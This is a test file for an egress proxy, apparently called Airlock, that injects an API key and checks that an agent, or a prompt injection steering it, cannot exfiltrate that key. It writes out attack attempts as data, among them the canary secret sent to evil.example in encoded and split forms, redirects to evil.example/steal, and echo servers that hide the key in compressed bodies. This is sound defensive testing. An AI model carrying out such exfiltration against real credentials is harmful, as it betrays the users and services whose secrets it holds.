// Exfiltration: an agent (or a prompt injection steering it) tries to get a credential out. The
// agent only holds a placeholder; the real value is injected by the proxy for the one destination
// the decision binds it to. Attacks: the placeholder sent elsewhere (query, path, header, body,
// base64/hex/percent-encoded, split across fields), to allowed and unknown hosts; a redirect from
// the bound host to an unknown one; and an upstream that echoes the injected value back, in every
// encoding we could think of. Asserted every time: what the agent got, and that no upstream other
// than the bound one ever received the real value in any form.
import t, { type Test } from 'tap';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import zlib from 'node:zlib';
import { curl, exchange, isProblem, parseResponses, startTestAirlock, startUpstream, tlsTunnel, upstreamCa, viaProxy, type Upstream } from './helpers.ts';

process.env.AIRLOCK_MASTER_KEY ??= '7b'.repeat(32);
const SECRET = 'sk_live_EXFIL_CANARY_0123456789abcdefXYZ';

/** The real value in every spelling an exfiltration would use. */
const forms = (v: string): string[] => {
  const b = Buffer.from(v);
  return [v, b.toString('base64').replace(/=+$/, ''), b.toString('base64url'), b.toString('hex'), b.toString('hex').toUpperCase(), encodeURIComponent(v), [...b].map((x) => `%${x.toString(16).padStart(2, '0')}`).join('')];
};
const leaks = (text: string): string[] => forms(SECRET).filter((f) => text.includes(f));

// The bound API: echoes what it received, and on request hands the injected key back in
// headers, encodings, compressed bodies and redirects.
const echoing = (req: http.IncomingMessage, res: http.ServerResponse, body: Buffer): void => {
  const auth = String(req.headers.authorization ?? '');
  const key = auth.replace(/^Bearer /, '');
  const u = new URL(req.url ?? '/', 'http://x');
  const evilPort = u.searchParams.get('evil');
  switch (u.pathname) {
    case '/echo-header': res.setHeader('x-echo', key); res.end('ok'); return;
    case '/echo-b64': res.end(`{"k":"${Buffer.from(key).toString('base64')}"}`); return;
    case '/echo-hex': res.end(Buffer.from(key).toString('hex')); return;
    case '/echo-url': res.end(`https://x.example/?k=${encodeURIComponent(key)}`); return;
    case '/echo-gzip': res.setHeader('content-encoding', 'gzip'); res.end(zlib.gzipSync(`token=${key}`)); return;
    case '/echo-br': res.setHeader('content-encoding', 'br'); res.end(zlib.brotliCompressSync(`token=${key}`)); return;
    case '/echo-deflate': res.setHeader('content-encoding', 'deflate'); res.end(zlib.deflateSync(`token=${key}`)); return;
    // Twelfth pass: bytes after the end of the compressed stream (the key in clear among them): a
    // decoder ends before its input does, and the answer hung instead of ending.
    case '/echo-deflate-tail': res.setHeader('content-encoding', 'deflate'); res.end(Buffer.concat([zlib.deflateSync('ok'), Buffer.from(`token=${key}`)])); return;
    // Fourteenth pass: a brotli file no Content-Encoding declares (a `.br` export), which the agent unpacks itself.
    case '/echo-br-file': res.setHeader('content-type', 'application/octet-stream'); res.end(zlib.brotliCompressSync(`{"log":[{"authorization":"Bearer ${key}"}]}`)); return;
    // Sixteenth pass: a bzip2 file (a `.bz2` export; Node has no decoder) with the key packed past any spelling.
    case '/echo-bz2-file': res.setHeader('content-type', 'application/x-bzip2'); res.end(Buffer.concat([Buffer.from('BZh91AY&SY', 'latin1'), Buffer.from([...Buffer.from(key)].map((x) => x ^ 0x5a))])); return;
    case '/download': res.setHeader('content-type', 'application/octet-stream'); res.end(Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47]), Buffer.from(Array.from({ length: 70_000 }, (_, i) => (i * 131 + 7) & 0xff))])); return;
    case '/echo-br-tail': res.setHeader('content-encoding', 'br'); res.end(Buffer.concat([zlib.brotliCompressSync('ok'), Buffer.from(`token=${key}`)])); return;
    case '/echo-double-gzip': res.setHeader('content-encoding', 'gzip, gzip'); res.end(zlib.gzipSync(zlib.gzipSync(`token=${key}`))); return;
    // An encoding the proxy cannot decode: the key is in clear inside, labelled as something else.
    case '/echo-unknown-encoding': res.setHeader('content-encoding', 'x-custom'); res.end(`token=${key}`); return;
    case '/echo-zstd': res.setHeader('content-encoding', 'zstd'); res.end(`token=${key}`); return;
    // gzip as a transfer coding: Node's client undoes the chunking and leaves the gzip on the body.
    case '/echo-te-gzip': res.setHeader('transfer-encoding', 'gzip, chunked'); res.end(zlib.gzipSync(`token=${key}`)); return;
    case '/echo-chunks': {
      res.write(key.slice(0, 7));
      setTimeout(() => { res.write(key.slice(7, 19)); setTimeout(() => res.end(key.slice(19)), 20); }, 20);
      return;
    }
    case '/redirect': res.writeHead(302, { location: `http://evil.example:${evilPort}/steal` }); res.end(); return;
    case '/redirect-with-key': res.writeHead(302, { location: `http://evil.example:${evilPort}/steal?k=${encodeURIComponent(key)}` }); res.end(); return;
    default: res.setHeader('content-type', 'application/json'); res.end(JSON.stringify({ url: req.url, headers: req.headers, body: body.toString() }));
  }
};

const api = await startUpstream(t, { handler: echoing });
const other = await startUpstream(t);
const evil = await startUpstream(t);
/** other.example on another port, only for the real-value attempts (so they never mix with the rest). */
const otherValue = await startUpstream(t);
// HTTPS: the genuine bound API, an impostor with a certificate from a CA Airlock does not trust,
// and one with a trusted certificate for another name.
const trustedCa = await upstreamCa(t);
const rogueCa = await upstreamCa(t);
const apiTls = await startUpstream(t, { tlsCa: trustedCa, handler: echoing });
const impostor = await startUpstream(t, { tlsCa: rogueCa });
const wrongName = await startUpstream(t, { tlsCa: trustedCa, certFor: 'evil.example' });
const a = await startTestAirlock(t, {
  policy: 'exfil', secrets: { api: SECRET },
  resolve: ['allowed.example=127.0.0.1', 'other.example=127.0.0.1', 'evil.example=127.0.0.1'],
  allowPrivate: [`127.0.0.1:${api.port}`, `127.0.0.1:${other.port}`, `127.0.0.1:${evil.port}`, `127.0.0.1:${otherValue.port}`,
    `127.0.0.1:${apiTls.port}`, `127.0.0.1:${impostor.port}`, `127.0.0.1:${wrongName.port}`],
  upstreamCa: [trustedCa.files.cert],
});
const PH = a.placeholders.api!;
const apiUrl = `http://allowed.example:${api.port}`;

function assertNoLeak(tt: Test, ups: Upstream[], what: string): void {
  for (const u of ups) tt.same(leaks(u.bytes()), [], `${what}: upstream :${u.port} never received the real value`);
}

t.test('control: the bound destination gets the real value, the agent only ever sees the placeholder', async (t) => {
  const r = await viaProxy(a.port, `${apiUrl}/me`, { auth: a.auth, headers: { authorization: `Bearer ${PH}` } });
  t.equal(r.status, 200);
  t.equal(api.received.at(-1)?.headers.authorization, `Bearer ${SECRET}`, 'injected for allowed.example');
  t.same(leaks(r.body), [], 'the echoed request (with the injected key) is scrubbed before the agent sees it');
  t.notMatch(r.body, /sk_live_EXFIL/);
});

t.test("curl: a token of the agent's own in the form or multipart body beside the injected header is refused before it leaves", async (t) => {
  const before = api.received.length;
  for (const [what, args] of [
    ['form (-d)', ['-d', 'channel=C1', '-d', 'token=xoxb-ATTACKER-1', '-d', 'text=hi']],
    ['multipart (-F)', ['-F', 'channels=C1', '-F', 'Token=xoxb-ATTACKER-2', '-F', 'file=@/etc/hostname']],
    ['JSON', ['-H', 'content-type: application/json', '--data-raw', '{"channel":"C1","access_token":"xoxb-ATTACKER-3"}']],
  ] as const) {
    const c = await curl(['-sS', '-x', a.proxyUrl, '-H', `Authorization: Bearer ${PH}`, ...args, `${apiUrl}/api/chat.postMessage`]);
    t.match(c.stdout, /"type":"[^"]*agent-credential-in-body"/, `${what}: refused with a problem that says why`);
  }
  t.equal(api.received.length, before, 'none reached the service');
  t.equal(a.records.filter((r) => r.outcome === 'credential-refused' && String(r.detail).includes('beside the credential Airlock injects')).length, 3, 'and each is in the audit log');
});

t.test('placeholder sent to an allowed host it is not bound to: refused, never substituted', async (t) => {
  const o = `http://other.example:${other.port}`;
  const b64 = Buffer.from(PH).toString('base64');
  const hex = Buffer.from(PH).toString('hex');
  const pct = [...Buffer.from(PH)].map((x) => `%${x.toString(16).padStart(2, '0')}`).join('');
  const attempts: Array<[string, Parameters<typeof viaProxy>[2] & {}, string]> = [
    ['query', {}, `${o}/search?q=${PH}`],
    ['path', {}, `${o}/upload/${PH}`],
    ['percent-encoded path', {}, `${o}/upload/${pct}`],
    ['header', { headers: { 'x-data': PH } }, `${o}/`],
    ['authorization header', { headers: { authorization: `Bearer ${PH}` } }, `${o}/`],
    ['cookie', { headers: { cookie: `s=${PH}` } }, `${o}/`],
    ['JSON body', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ note: PH }) }, `${o}/notes`],
    ['form body', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `note=${encodeURIComponent(PH)}` }, `${o}/notes`],
    ['base64 in body', { method: 'POST', headers: { 'content-type': 'text/plain' }, body: `data:${b64}` }, `${o}/notes`],
    ['hex in query', {}, `${o}/?d=${hex}`],
    ['base64 in header', { headers: { 'x-trace': b64 } }, `${o}/`],
  ];
  for (const [where, opts, url] of attempts) {
    const r = await viaProxy(a.port, url, { auth: a.auth, ...opts });
    t.equal(r.status, 403, `${where}: refused`);
    t.ok(isProblem(r), `${where}: problem+json`);
    t.notMatch(r.body, /sk_live_EXFIL/, `${where}: the refusal does not contain the value`);
  }
  t.equal(other.received.length, 0, 'other.example received nothing');
  assertNoLeak(t, [other], 'placeholder to other.example');
});

t.test('the real value itself (an agent that learned it elsewhere) is refused on its way to an unbound host', async (t) => {
  // Defence in depth: the agent should never hold the value, but a user may paste it into a prompt.
  const o = `http://other.example:${otherValue.port}`;
  const attempts: Array<[string, string, Parameters<typeof viaProxy>[2] & {}]> = [
    ['query', `${o}/?k=${SECRET}`, {}],
    ['path', `${o}/${SECRET}`, {}],
    ['header', `${o}/`, { headers: { 'x-data': SECRET } }],
    ['body', `${o}/`, { method: 'POST', headers: { 'content-type': 'text/plain' }, body: `key=${SECRET}` }],
    ['base64 body', `${o}/`, { method: 'POST', headers: { 'content-type': 'text/plain' }, body: Buffer.from(SECRET).toString('base64') }],
    ['hex query', `${o}/?d=${Buffer.from(SECRET).toString('hex')}`, {}],
  ];
  const statuses: string[] = [];
  for (const [where, url, opts] of attempts) {
    const r = await viaProxy(a.port, url, { auth: a.auth, ...opts });
    statuses.push(`${where}=${r.status}`);
    t.equal(r.status, 403, `${where}: refused`);
  }
  t.comment(statuses.join(' '));
  t.equal(otherValue.received.length, 0, 'other.example received none of them');
  t.same(leaks(otherValue.bytes()), [], 'other.example never received the value in any form');
});

t.test('placeholder sent to an unknown host: denied, nothing leaves', async (t) => {
  for (const [where, url, opts] of [
    ['query', `http://evil.example:${evil.port}/?k=${PH}`, {}],
    ['header', `http://evil.example:${evil.port}/`, { headers: { authorization: `Bearer ${PH}` } }],
    ['body', `http://evil.example:${evil.port}/`, { method: 'POST', body: PH }],
  ] as const) {
    const r = await viaProxy(a.port, url, { auth: a.auth, ...opts });
    t.equal(r.status, 403, `${where}: denied`);
    t.ok(isProblem(r));
  }
  t.equal(evil.received.length, 0);
  assertNoLeak(t, [evil], 'placeholder to evil.example');
});

t.test('a placeholder split across fields is never reassembled into the value', async (t) => {
  const o = `http://other.example:${other.port}`;
  const [x, y] = [PH.slice(0, 8), PH.slice(8)];
  const before = other.received.length;
  const r1 = await viaProxy(a.port, `${o}/?a=${x}&b=${y}`, { auth: a.auth });
  const r2 = await viaProxy(a.port, `${o}/${x}`, { auth: a.auth, method: 'POST', headers: { 'x-rest': y }, body: y });
  t.comment(`split placeholder: ${r1.status}, ${r2.status}`);
  t.ok(other.received.length - before <= 2);
  assertNoLeak(t, [other, evil], 'split placeholder');
});

t.test('bound destination: the value goes only where the directive puts it; a placeholder anywhere else is refused', async (t) => {
  const before = api.received.length;
  const r = await viaProxy(a.port, `${apiUrl}/items?echo=${PH}`, { auth: a.auth, method: 'POST', headers: { authorization: `Bearer ${PH}`, 'x-copy': PH, 'content-type': 'text/plain' }, body: `copy ${PH}` });
  t.equal(r.status, 403, 'refused: the placeholder is also outside the Authorization slot');
  t.ok(isProblem(r));
  t.equal(api.received.length, before, 'nothing reached the bound host');
  t.same(leaks(r.body), [], 'and the refusal carries no value');
  // The same request with the placeholder only in its slot goes through, with the value there only.
  const ok = await viaProxy(a.port, `${apiUrl}/items?echo=1`, { auth: a.auth, method: 'POST', headers: { authorization: `Bearer ${PH}`, 'content-type': 'text/plain' }, body: 'copy' });
  t.equal(ok.status, 200);
  const got = api.received.at(-1)!;
  t.equal(got.headers.authorization, `Bearer ${SECRET}`, 'the Authorization header carries the value');
  t.same(leaks(got.url + got.body.toString() + JSON.stringify({ ...got.headers, authorization: '' })), [], 'nowhere else');
});

/** A request through the proxy whose answer is kept as the bytes that arrived (no decoding, no charset). */
function rawVia(url: string, headers: Record<string, string>): Promise<{ status: number; headers: http.IncomingHttpHeaders; body: Buffer }> {
  return new Promise((resolve, reject) => {
    const req = http.request({ host: '127.0.0.1', port: a.port, path: url, agent: false, setHost: false, headers: { host: new URL(url).host, 'proxy-authorization': a.auth, ...headers } });
    req.on('error', reject);
    req.on('response', (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks) }));
      res.on('error', reject);
    });
    req.end();
  });
}

t.test('an upstream echoing the injected value back is scrubbed in every encoding', async (t) => {
  for (const path of ['/echo-header', '/echo-b64', '/echo-hex', '/echo-url', '/echo-gzip', '/echo-br', '/echo-deflate', '/echo-chunks', '/echo-all']) {
    const c = await curl(['-i', '--compressed', '-x', a.proxyUrl, '-H', `Authorization: Bearer ${PH}`, `${apiUrl}${path}`]);
    t.equal(c.code, 0, `${path}: curl ok ${c.stderr}`);
    t.match(c.stdout, /^HTTP\/1\.1 200/, `${path}: answered`);
    t.same(leaks(c.stdout), [], `${path}: the agent sees no form of the value`);
  }
  // Encodings the proxy cannot (or does not) decode: refused or scrubbed, never passed through in
  // clear. Read raw (no decompression by the client) and decode what can be decoded here.
  for (const path of ['/echo-unknown-encoding', '/echo-zstd', '/echo-double-gzip', '/echo-te-gzip']) {
    const r = await rawVia(`${apiUrl}${path}`, { authorization: `Bearer ${PH}` });
    let text = r.body.toString('latin1');
    try { text += zlib.gunzipSync(r.body).toString(); } catch { /* not gzip */ }
    try { text += zlib.gunzipSync(zlib.gunzipSync(r.body)).toString(); } catch { /* not double gzip */ }
    t.comment(`${path}: ${r.status} ${r.headers['content-encoding'] ?? ''}`);
    t.same(leaks(text), [], `${path}: no form of the value reaches the agent (${r.status})`);
  }
  // Fourteenth pass: a brotli file no Content-Encoding declares is read on the side (from the first
  // byte of an answer that is no text) and refused; a binary download passes byte for byte.
  const br = await rawVia(`${apiUrl}/echo-br-file`, { authorization: `Bearer ${PH}` });
  let unpacked = br.body.toString('latin1');
  try { unpacked += zlib.brotliDecompressSync(br.body, { finishFlush: zlib.constants.BROTLI_OPERATION_FLUSH }).toString('latin1'); } catch { /* not brotli */ }
  t.same(leaks(unpacked), [], `/echo-br-file: no form of the value reaches the agent (${br.status})`);
  // Sixteenth pass: a file in a compression Node cannot read is withheld (502 problem), not passed unread.
  const bz2 = await rawVia(`${apiUrl}/echo-bz2-file`, { authorization: `Bearer ${PH}` });
  t.same([bz2.status, bz2.headers['content-type']], [502, 'application/problem+json'], `/echo-bz2-file: withheld (${bz2.body.toString().slice(0, 160)})`);
  const bin = await rawVia(`${apiUrl}/download`, { authorization: `Bearer ${PH}` });
  t.same([bin.status, bin.body.length, bin.body.subarray(0, 4).toString('hex')], [200, 70_004, '89504e47'], 'a binary download from the same host arrives whole');
  // Twelfth pass: what follows the end of a deflate or brotli stream is dropped, and the answer ends.
  for (const path of ['/echo-deflate-tail', '/echo-br-tail']) {
    const c = await curl(['-sS', '--max-time', '3', '--compressed', '-x', a.proxyUrl, '-H', `Authorization: Bearer ${PH}`, `${apiUrl}${path}`]);
    t.same([c.code, c.stdout], [0, 'ok'], `${path}: the decoded stream, and the answer ends (${c.stderr})`);
    t.same(leaks(c.stdout), [], `${path}: the agent sees no form of the value`);
  }
});

t.test('a redirect from the bound host to an unknown one is returned, not followed; credentials never sent', async (t) => {
  const r = await viaProxy(a.port, `${apiUrl}/redirect?evil=${evil.port}`, { auth: a.auth, headers: { authorization: `Bearer ${PH}` } });
  t.equal(r.status, 302, 'the redirect is handed to the agent');
  t.equal(evil.received.length, 0, 'the proxy did not follow it');
  const withKey = await viaProxy(a.port, `${apiUrl}/redirect-with-key?evil=${evil.port}`, { auth: a.auth, headers: { authorization: `Bearer ${PH}` } });
  t.same(leaks(String(withKey.headers.location ?? '')), [], 'a Location carrying the value is scrubbed');
  // A client that follows redirects and re-sends its Authorization everywhere (curl --location-trusted).
  const c = await curl(['-sS', '-o', '/dev/null', '-w', '%{http_code} %{num_redirects}', '-L', '--location-trusted', '-x', a.proxyUrl, '-H', `Authorization: Bearer ${PH}`, `${apiUrl}/redirect?evil=${evil.port}`]);
  t.match(c.stdout, /^403 1$/, `following the redirect lands on a refusal (${c.stdout})`);
  t.equal(evil.received.length, 0, 'evil.example received nothing, with or without credentials');
  assertNoLeak(t, [evil, other], 'redirect');
});

t.test('credentials are never sent to an HTTPS upstream that fails verification', async (t) => {
  const get = (port: number): Promise<{ text: string }> => tlsTunnel(a.port, `allowed.example:${port}`, { auth: a.auth, ca: a.caPem })
    .then((s) => exchange(s, `GET /me HTTP/1.1\r\nHost: allowed.example:${port}\r\nAuthorization: Bearer ${PH}\r\nConnection: close\r\n\r\n`, { responses: 1 }));
  const ok = await get(apiTls.port);
  t.match(ok.text, /^HTTP\/1\.1 200/, 'control: the genuine HTTPS API is reached');
  t.equal(apiTls.received.at(-1)?.headers.authorization, `Bearer ${SECRET}`, 'control: with the key injected');
  for (const [name, up] of [['certificate from an untrusted CA', impostor], ['trusted certificate for another name', wrongName]] as const) {
    const r = await get(up.port);
    const [res] = parseResponses(r.text);
    t.equal(res?.status, 502, `${name}: 502`);
    t.ok(res && isProblem(res), `${name}: problem+json`);
    t.equal(up.received.length, 0, `${name}: no request reached it`);
    t.same(leaks(up.bytes()), [], `${name}: never saw the key`);
  }
});

t.test('the value never lands in the audit log or any file of the state folder', async (t) => {
  // Runs last: every attack above has been audited by now.
  await a.airlock.close();
  const files: string[] = [];
  const walk = (dir: string): void => {
    for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
      const p = path.join(dir, e.name);
      if (e.isDirectory()) walk(p);
      else if (e.isFile()) files.push(p);
    }
  };
  walk(a.airlock.home);
  t.ok(files.some((f) => /audit/.test(f)), `the audit log is among the ${files.length} files checked`);
  for (const f of files) t.same(leaks(fs.readFileSync(f).toString('latin1')), [], `${path.relative(a.airlock.home, f)}: no form of the value`);
  const leaking = a.records.filter((r) => leaks(JSON.stringify(r)).length);
  t.same(leaking.map((r) => `${r.method} ${r.url} ${r.outcome}`), [], 'nor in the audit records as written');
});
